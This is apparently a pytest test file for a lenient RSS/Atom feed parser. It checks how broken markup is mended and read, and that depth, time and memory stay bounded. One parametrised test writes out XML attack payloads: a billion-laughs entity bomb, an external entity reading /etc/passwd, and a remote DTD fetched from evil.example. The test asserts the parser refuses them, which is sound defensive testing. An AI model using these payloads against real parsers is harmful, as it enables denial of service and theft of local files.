"""Malformed feeds: what they meant is read, and what no feed has is bounded."""

# ruff: noqa: E501  sample markup reads better unbroken

import subprocess
import sys
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from digest.errors import NotReadable
from digest.gather.feed import parse_feed
from digest.gather.feed_mend import MAX_DEPTH, mended
from tests.gather.endless import ENDLESS

Read = Callable[..., Any]
URL = "https://lantern.example/feed"


def feed(items: str) -> str:
    return f"<rss version='2.0'><channel><title>T</title>{items}</channel></rss>"


def entries(read: Read, body: str | bytes) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = read(body, "feed", URL)["entries"]
    return [{name: value for name, value in entry.items() if value and name != "id"} for entry in found]


def test_ampersands_and_names_of_html_are_characters(read: Read) -> None:
    item = "<item><title>Caf&eacute; A&B R&D &copy; &unknown; &#39;q&#39; don&#146;t</title><link>https://e.example/?a=1&b=2&copy=3</link></item>"
    assert entries(read, feed(item)) == [
        {"title": "Café A&B R&D © &unknown; 'q' don’t", "url": "https://e.example/?a=1&b=2&copy=3"},
    ]


def test_unclosed_elements_end_where_the_next_begins(read: Read) -> None:
    items = (
        "<item><title>One<link>https://e.example/1</link><description>d1<pubDate>Mon, 02 Nov 2026 10:00:00 GMT</pubDate>"
        "<item><title>Two</title><link>https://e.example/2</link></item></item></channel><item><title>Three"
    )
    assert entries(read, feed(items).replace("</channel></rss>", "")) == [
        {"title": "One", "url": "https://e.example/1", "summary": "d1", "published": "2026-11-02T10:00:00Z"},
        {"title": "Two", "url": "https://e.example/2"},
        {"title": "Three"},
    ]


def test_html_that_stands_raw_in_a_description_is_its_text(read: Read) -> None:
    items = "<item><description><p>Raw <b>html</b> & stuff<br>if a &lt; b</description><title>A <i>b</title></item>"
    assert entries(read, feed(items)) == [
        {"title": "A b", "summary": "Raw html & stuff if a < b", "content_html": "<p>Raw <b>html</b> &amp; stuff<br>if a &lt; b</p>"}
    ]


def test_raw_xhtml_beside_an_error_is_the_same_xhtml(read: Read) -> None:
    body = """<feed xmlns="http://www.w3.org/2005/Atom"><title>A & B</title><entry><content type="xhtml">
    <div xmlns="http://www.w3.org/1999/xhtml"><p>One <a href="/x"/>two &lt;b&gt;</p></div></content></entry></feed>"""
    assert entries(read, body) == [{"content_html": '<p>One <a href="https://lantern.example/x"></a>two &lt;b&gt;</p>'}]


@pytest.mark.parametrize(
    "junk",
    ["\n\n  ", "<br />\n<b>Warning</b>: foo() in <b>/x.php</b> on line <b>3</b>\n", "<!-- cached <rss> -->", "\ufeff\ufeff", "\x00\x0b"],
)
def test_what_stands_before_the_root_is_passed_over(read: Read, junk: str) -> None:
    assert entries(read, f"{junk}<?xml version='1.0'?>{feed('<item><title>x</title></item>')}") == [{"title": "x"}]


def test_a_feed_is_known_by_its_root_also_behind_a_warning_and_a_page_about_feeds_is_none(read: Read) -> None:
    assert read("<br />\n<b>Warning</b>: foo() in <b>/x.php</b>\n" + feed("<item><title>x</title></item>"), None, URL)["kind"] == "feed"
    assert read("<!DOCTYPE html PUBLIC 'x'>" + feed(""), None, URL)["kind"] == "feed"
    page = "<html><body><h1>Feeds</h1><p>A feed begins so:</p><pre><rss version='2.0'></pre></body></html>"
    assert read(page, None, URL)["kind"] == "page"


def test_prefixes_that_nobody_declared_mean_what_they_always_mean(read: Read) -> None:
    item = "<item><media:content url='https://e.example/a.jpg' medium='image'/><content:encoded><![CDATA[<p>hi</p>]]></content:encoded><dc:creator>Ann</dc:creator><x:y/></item>"
    (entry,) = entries(read, feed(item))
    assert (entry["content_html"], entry["authors"], entry["image"]["url"]) == ("<p>hi</p>", ["Ann"], "https://e.example/a.jpg")


def test_upper_case_unquoted_and_doubled_attributes_do_no_harm(read: Read) -> None:
    item = "<ITEM><TITLE>a</TITLE><LINK>https://e.example/1</LINK><ENCLOSURE url=https://e.example/a.jpg type=image/jpeg url='x'/></ITEM>"
    (entry,) = entries(read, f"<RSS VERSION=2.0><CHANNEL>{item}</CHANNEL></RSS>")
    assert (entry["title"], entry["url"], entry["image"]["url"]) == ("a", "https://e.example/1", "https://e.example/a.jpg")


def test_a_section_of_cdata_that_never_ends_swallows_nothing(read: Read) -> None:
    items = "<item><title><![CDATA[One</title></item><item><title>Two</title></item>"
    assert entries(read, feed(items)) == [{"title": "One"}, {"title": "Two"}]


def test_a_feed_that_was_cut_off_gives_what_had_come(read: Read) -> None:
    whole = feed("<item><title>One</title></item><item><title>Two</title><link>https://e.example/2</link></item>")
    for length in range(whole.index("Two") + 3, len(whole)):
        found = entries(read, whole[:length])
        assert [entry["title"] for entry in found] == ["One", "Two"], whole[:length]


PIECES = st.sampled_from(
    [
        *(
            "<item>",
            "</item>",
            "<title>",
            "</title>",
            "<b>",
            "</b>",
            "<a:b c='d'>",
            "</a:b>",
            "<![CDATA[",
            "]]>",
            "<!--",
            "-->",
            "<?x",
            "?>",
        ),
        *(
            "&amp;",
            "&",
            "&nbsp;",
            "&#0;",
            "&#xD800;",
            "<x y='",
            '"',
            "'",
            "<",
            ">",
            "/>",
            " xmlns='u'",
            " xmlns:q='u'",
            "<q:r",
            "word",
            "\x01",
        ),
        *(
            "<feed>",
            "<description>",
            "</description>",
            "<content type='xhtml'>",
            "</content>",
            "<!DOCTYPE x>",
            "<-",
            "</",
            "<xml:a>",
            "<é>",
            "<_>",
        ),
        "<a:b:c>",
    ]
)


@settings(max_examples=300, deadline=20_000)
@given(st.lists(PIECES, max_size=40))
def test_any_heap_of_pieces_is_mended_to_what_a_strict_parser_takes(pieces: list[str]) -> None:
    etree.fromstring(mended("<rss>" + "".join(pieces)).encode())


def test_depth_is_capped_in_what_is_mended() -> None:
    root = etree.fromstring(mended("<rss>" + "<a>" * 5000 + "&").encode())
    assert max(sum(1 for _ in element.iterancestors()) for element in root.iter()) <= MAX_DEPTH


BOMB = """<!DOCTYPE lolz [<!ENTITY lol "lol">{entities}]>""".format(
    entities="".join(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10))
)


@pytest.mark.parametrize("broken", ["", " & "], ids=["well-formed", "malformed"])
@pytest.mark.parametrize(
    "prolog",
    [
        BOMB,
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        "<!-- <rss> -->" + BOMB,
    ],
)
def test_documents_that_declare_entities_are_refused_on_both_paths(prolog: str, broken: str) -> None:
    body = f"<?xml version='1.0'?>{prolog}{feed(f'<item><title>&a;&lol9;{broken}</title></item>')}"
    with pytest.raises(NotReadable, match="entities"):
        parse_feed(body.encode(), URL)


def test_the_names_of_htmls_characters_may_be_declared(read: Read) -> None:
    prolog = """<!DOCTYPE rdf:RDF [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1;
    <!ENTITY nbsp "&#160;">]>"""
    assert entries(read, prolog + feed("<item><title>a&nbsp;b</title></item>")) == [{"title": "a b"}]


def test_what_has_no_end_is_read_or_refused_in_seconds_and_two_hundred_megabytes() -> None:
    ran = subprocess.run([sys.executable, "-m", "tests.gather.endless"], capture_output=True, text=True, check=True)
    lines = [line.split("\t") for line in ran.stdout.splitlines()]
    assert [name for name, _, _ in lines] == list(ENDLESS)
    assert [line for line in lines if float(line[1]) > 5 or float(line[2]) > 200] == []
